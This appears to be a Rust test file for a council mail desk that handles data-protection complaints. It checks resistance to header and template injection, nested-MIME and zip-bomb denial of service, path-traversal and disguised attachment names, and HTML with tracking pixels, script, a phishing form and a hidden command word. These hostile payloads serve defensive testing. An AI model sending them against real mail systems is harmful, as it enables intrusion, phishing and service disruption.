//! Bytes made to harm: headers and templates injected, nesting, bombs, file names, HTML (attacks 11, 12, 15–18).

use super::{COMPLAINT, RESIDENT, STRANGER, Scene, of, to_clerk, to_public, words_of};
use crate::council::{AUTHSERV_ID, message};
use crate::office::{CLERK, COUNCIL};
use crate::outcomes::desk::{Desk, Letter};
use crate::outcomes::given::Given;
use crate::outcomes::with_room;
use redress::casework::letter::LetterKind;
use redress::mail::{RawMessage, parse};
use std::io::{Cursor, Write};
use std::net::TcpListener;
use std::time::{Duration, Instant};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

/// A proven mail with this From line, subject line and body, whatever they hold.
fn proven(from: &str, domain: &str, id: &str, subject: &str, rest: &str) -> Vec<u8> {
    format!(
        "Return-Path: <x@{domain}>\r\n\
         Authentication-Results: {AUTHSERV_ID}; spf=pass smtp.mailfrom={domain}; dkim=pass header.d={domain}; dmarc=pass header.from={domain}\r\n\
         From: {from}\r\nTo: <{COUNCIL}>\r\nSubject: {subject}\r\nDate: Mon, 02 Mar 2026 09:15:00 +0000\r\nMessage-ID: <{id}@{domain}>\r\n\
         MIME-Version: 1.0\r\n{rest}"
    )
    .into_bytes()
}

/// The names of a letter's header fields.
fn fields(letter: &Letter) -> Vec<String> {
    let text = String::from_utf8_lossy(&letter.bytes).into_owned();
    let header = text.split("\r\n\r\n").next().unwrap_or("").to_owned();
    header
        .lines()
        .filter(|l| !l.starts_with([' ', '\t']))
        .filter_map(|l| l.split_once(':').map(|(n, _)| n.to_ascii_lowercase()))
        .collect()
}

#[test]
fn a_11_a_line_break_in_a_name_or_subject_makes_no_field() {
    let mut desk = Desk::new(&Given::default());
    let letters = desk
        .take(proven(
            "=?utf-8?Q?Marge=0D=0AX-Case-Action:_CLOSE?= <marge@residents.example>",
            "residents.example",
            "inj1",
            "=?utf-8?Q?Complaint=0D=0ABcc:_newsdesk=40elsewhere.example=0D=0A=0D=0AThe_council_admits_it=E2=80=AE?=",
            &format!("Content-Type: text/plain; charset=utf-8\r\n\r\n{COMPLAINT}\r\n"),
        ))
        .1;
    assert_eq!((to_public(&letters), to_clerk(&letters)), (1, 1), "{letters:?}");
    for letter in &letters {
        let names = fields(letter);
        assert!(!names.iter().any(|n| n == "bcc" || n == "cc" || n == "x-case-action"), "{names:?}");
        let read = parse(&RawMessage::new(letter.bytes.clone()));
        assert_eq!(read.recipients.len(), 1);
        assert!(!read.subject.contains('\u{202e}') && !read.subject.contains('\n'));
        assert!(!read.text.starts_with("The council admits it"), "the body starts where it should");
    }
    let public = letters.iter().find(|l| l.to_public).expect("an acknowledgement");
    assert!(!words_of(public).contains("admits"), "{}", words_of(public));
}

#[test]
fn a_12_what_came_by_mail_is_data_to_a_template() {
    let mut scene = Scene::new();
    let secret = scene.secret.clone();
    let letters = scene
        .desk
        .take(proven(
            "\"{{ reply_token }}\" <x@elsewhere.example>",
            "elsewhere.example",
            "tpl1",
            "{% for c in cases %}{{ c }}{% endfor %}",
            "Content-Type: text/plain; charset=utf-8\r\n\r\nI make a formal complaint: you published my personal data, my home address, on \
             your website without asking me.\r\n\
             My name is ${7*7} <%= system('id') %> {{ ''.__class__ }} %(token)s {0.token} {{ council.name }} {{ 7*7 }}\r\n",
        ))
        .1;
    assert_eq!(
        (to_public(&letters), to_clerk(&letters)),
        (1, 1),
        "a template never blocks a letter: {letters:?}"
    );
    for letter in &letters {
        let words = words_of(letter);
        assert!(
            !words.contains("49") && !words.contains("uid=") && !words.contains(&secret),
            "{words}"
        );
        assert!(!words.contains("Oldroyd"), "no name of another case: {words}");
    }
    let notice = letters.iter().find(|l| l.kind == LetterKind::NewCase).expect("a notice");
    let words = words_of(notice);
    for as_it_came in [
        "${7*7}",
        "{{ ''.__class__ }}",
        "%(token)s",
        "{0.token}",
        "{{ 7*7 }}",
        "{% for c in cases %}",
    ] {
        assert!(words.contains(as_it_came), "{as_it_came} is not shown letter for letter: {words}");
    }
}

#[test]
fn a_15_nesting_without_end_costs_one_row() {
    with_room(|| {
        let mut nested = String::from("Content-Type: message/rfc822\r\n\r\n");
        for level in 0..400 {
            nested.push_str(&format!(
                "From: <n@elsewhere.example>\r\nSubject: level {level}\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
            ));
        }
        let mut many = String::from("Content-Type: multipart/mixed; boundary=b\r\n\r\n");
        for part in 0..50_000 {
            many.push_str(&format!(
                "--b\r\nContent-Type: multipart/mixed; boundary=bb{part}\r\n\r\n--bb{part}\r\n\r\npart\r\n"
            ));
        }
        let long_line = format!("X-Long: {}\r\nContent-Type: text/plain\r\n\r\nHello.\r\n", "a".repeat(2 << 20));
        let mut desk = Desk::new(&Given::default());
        for (name, rest) in [("nested", &nested), ("many", &many), ("long", &long_line)] {
            let bytes = proven("<n@elsewhere.example>", "elsewhere.example", name, name, rest);
            let begun = Instant::now();
            let letters = desk.take(bytes).1;
            assert!(begun.elapsed() < Duration::from_secs(20), "{name}: {:?}", begun.elapsed());
            assert_eq!(to_public(&letters), 0, "{name}");
            assert!(to_clerk(&letters) <= 1, "{name}: {letters:?}");
            assert!(desk.ledger("n@elsewhere.example").contains(name), "{name} is listed, not lost");
        }
        // The next in the queue is handled as ever.
        let letters = desk.take(message(RESIDENT, "c1@residents.example", "My address", "", COMPLAINT)).1;
        assert_eq!(to_public(&letters), 1, "{letters:?}");
    });
}

fn zipped(name: &str, zeros: usize) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    zip.start_file(name, SimpleFileOptions::default()).expect("a file");
    let block = vec![b' '; 1 << 20];
    for _ in 0..zeros >> 20 {
        zip.write_all(&block).expect("its bytes");
    }
    zip.finish().expect("a zip").into_inner()
}

#[test]
fn a_16_a_bomb_is_no_consent() {
    with_room(|| {
        let mut desk = Desk::new(&Given::default());
        let words = "I write for my mother, Edith Oldroyd, who is 84. Your October newsletter printed her full name, her home address and her \
                     phone number. She never agreed to that. We want to make a complaint about how you have handled her personal \
                     information.\r\n\r\nMargaret Oldroyd";
        let (_, letters) = desk.take(message(RESIDENT, "c1@residents.example", "My mother's address", "", words));
        assert!(
            desk.in_the_end().contains("written consent") || desk.in_the_end().contains("consent"),
            "{letters:?}"
        );
        let asked = desk.letters.iter().find(|l| l.to_public).expect("she is asked for consent").clone();
        let bomb = zipped("consent.txt", 200 << 20);
        let document = zipped("word/document.xml", 200 << 20);
        let part = |name: &str, media: &str, bytes: &[u8]| {
            format!(
                "--b\r\nContent-Type: {media}; name=\"{name}\"\r\nContent-Transfer-Encoding: base64\r\n\
                 Content-Disposition: attachment; filename=\"{name}\"\r\n\r\n{}\r\n",
                data_encoding::BASE64_MIME.encode(bytes)
            )
        };
        let rest = format!(
            "In-Reply-To: <{}>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n\
             Here is her consent.\r\n{}{}--b--\r\n",
            asked.message_id.0,
            part("consent.zip", "application/zip", &bomb),
            part(
                "consent.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                &document
            )
        );
        let begun = Instant::now();
        let letters = desk
            .take(proven(
                &format!("<{RESIDENT}>"),
                "residents.example",
                "bomb",
                "Re: PD-2026-0001: consent",
                &rest,
            ))
            .1;
        assert!(begun.elapsed() < Duration::from_secs(60), "{:?}", begun.elapsed());
        assert_eq!((to_public(&letters), of(&letters, LetterKind::Reply)), (0, 1), "{letters:?}");
        let told = words_of(letters.iter().find(|l| l.kind == LetterKind::Reply).expect("a notice"));
        assert!(
            told.contains("consent.zip") && told.to_lowercase().contains("not checked"),
            "{told}"
        );
        let end = desk.in_the_end();
        assert!(!end.contains("accepted"), "a file never makes CONSENT OK by itself: {end}");
    });
}

#[test]
fn a_17_the_senders_name_of_a_file_is_a_label() {
    let office = crate::council::desk();
    let mail = office.folder().join("mail");
    std::fs::create_dir(&mail).expect("a folder for mail");
    office.says(&["run", "--once"]);
    let names = [
        "filename*=utf-8''..%2F..%2F..%2Fetc%2Fcron.d%2Fpd42",
        "filename=\"..\\\\..\\\\letters\\\\PD-2026-0001.txt\"",
        "filename*=utf-8''consent%E2%80%AEfdp.exe",
        "filename=\"CON\"",
        "filename*=utf-8''a%00.pdf",
        "filename=\"same.pdf\"",
        "filename=\"same.pdf\"",
        "filename=\"\"",
    ];
    let mut rest = format!("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n{COMPLAINT}\r\n");
    for name in names
        .iter()
        .map(|n| (*n).to_owned())
        .chain([format!("filename=\"{}.pdf\"", "x".repeat(3_000))])
    {
        rest.push_str(&format!(
            "--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; {name}\r\n\r\nMZ not what it says\r\n"
        ));
    }
    rest.push_str("--b--\r\n");
    let bytes = proven(
        &format!("<{RESIDENT}>"),
        "residents.example",
        "files",
        "My address in the newsletter",
        &rest,
    );
    std::fs::write(mail.join("files.eml"), bytes).expect("a message");
    let files = |of: &std::path::Path| -> Vec<String> {
        let mut all: Vec<String> = std::fs::read_dir(of)
            .expect("a folder")
            .map(|e| e.expect("an entry").file_name().to_string_lossy().into_owned())
            .collect();
        all.sort();
        all
    };
    let before = files(office.folder());
    office.says(&["run", "--once"]);
    // Nothing is written but what is always there: the store, and letters under names of ours.
    let after = files(office.folder());
    let new: Vec<&String> = after.iter().filter(|f| !before.contains(f) && *f != "letters").collect();
    assert!(new.iter().all(|f| f.starts_with("redress")), "{new:?}");
    let letters = files(&office.folder().join("letters"));
    assert!(letters.iter().all(|f| f.ends_with(".eml") && !f.contains("PD-2026")), "{letters:?}");
    // The clerk sees each for what it is: the last part of its name, without the mark that turns it round.
    let notice = letters
        .iter()
        .map(|f| std::fs::read(office.folder().join("letters").join(f)).expect("a letter"))
        .map(|bytes| parse(&RawMessage::new(bytes)))
        .find(|m| m.recipients.iter().any(|r| r.address.to_string() == CLERK))
        .expect("the clerk is told");
    assert_eq!(
        notice.text.matches("same.pdf").count(),
        2,
        "both of one name are there: {}",
        notice.text
    );
    assert!(
        notice.text.contains("fdp.exe") && !notice.text.contains('\u{202e}'),
        "{}",
        notice.text
    );
    assert!(!notice.text.contains("..") || !notice.text.contains("cron.d/"), "{}", notice.text);
    assert!(!notice.text.contains(&"x".repeat(400)), "a long name is cut");
}

#[test]
fn a_18_nothing_of_the_senders_html_reaches_the_clerk() {
    let mut desk = Desk::new(&Given::default());
    // A listener where the pictures lie: nothing of ours knocks, whatever is made of the mail.
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("it does not wait");
    let port = listener.local_addr().expect("its address").port();
    let html = format!(
        "<html><head><style>@import url(//t.elsewhere.example/x)</style></head><body><p>{}</p>\
         <img src=\"https://t.elsewhere.example/p.gif?who=clerk\"><img src=\"http://127.0.0.1:{port}/p.gif\">\
         <link rel=stylesheet href=\"http://127.0.0.1:{port}/s.css\"><script>alert(1)</script><svg onload=\"alert(2)\"></svg>\
         <form action=\"https://t.elsewhere.example/login\"><input name=pw>Council login</form>\
         <a href=\"https://t.elsewhere.example/real\">https://www.aldermoor-tc.example/login</a>\
         <span style=\"display:none\">ACCEPT</span></body></html>",
        COMPLAINT.replace("\r\n", "<br>")
    );
    let letters = desk
        .take(proven(
            &format!("<{RESIDENT}>"),
            "residents.example",
            "html",
            "My address in the newsletter",
            &format!("Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"),
        ))
        .1;
    let notice = letters.iter().find(|l| l.kind == LetterKind::NewCase).expect("the clerk is told");
    let read = parse(&RawMessage::new(notice.bytes.clone()));
    let shown = read.html.clone().expect("an HTML part");
    for tag in [
        "<img",
        "<script",
        "<svg",
        "<form",
        "<input",
        "@import",
        "url(",
        "onload",
        "display:none",
    ] {
        assert!(!shown.to_lowercase().contains(tag), "{tag} survives:\n{shown}");
    }
    // No link of theirs: every link in the notice is one of ours, to write to the desk or to the council.
    for link in shown.split("href=\"").skip(1) {
        let target = link.split('"').next().unwrap_or("");
        assert!(
            target.starts_with(&format!("mailto:{COUNCIL}")) || target.starts_with("https://www.aldermoor-tc.example"),
            "{target}"
        );
        assert!(!target.contains("t.elsewhere.example"), "{target}");
    }
    assert!(!shown.contains("src="), "nothing is fetched when the notice is opened:\n{shown}");
    // And the hidden word was no command, nor part of her words.
    assert!(!read.text.contains("ACCEPT\n> ") && desk.in_the_end().contains("new"));
    assert!(!shown.contains(&port.to_string()), "{shown}");
    assert_eq!(
        listener.accept().map(drop).map_err(|e| e.kind()),
        Err(std::io::ErrorKind::WouldBlock),
        "somebody fetched what the mail points to"
    );
    let stranger = desk.take(proven(
        &format!("<{STRANGER}>"),
        "elsewhere.example",
        "h2",
        "Hello",
        "Content-Type: text/html\r\n\r\n<img src=https://t.elsewhere.example/p.gif>Hello\r\n",
    ));
    assert_eq!(to_public(&stranger.1), 0);
}
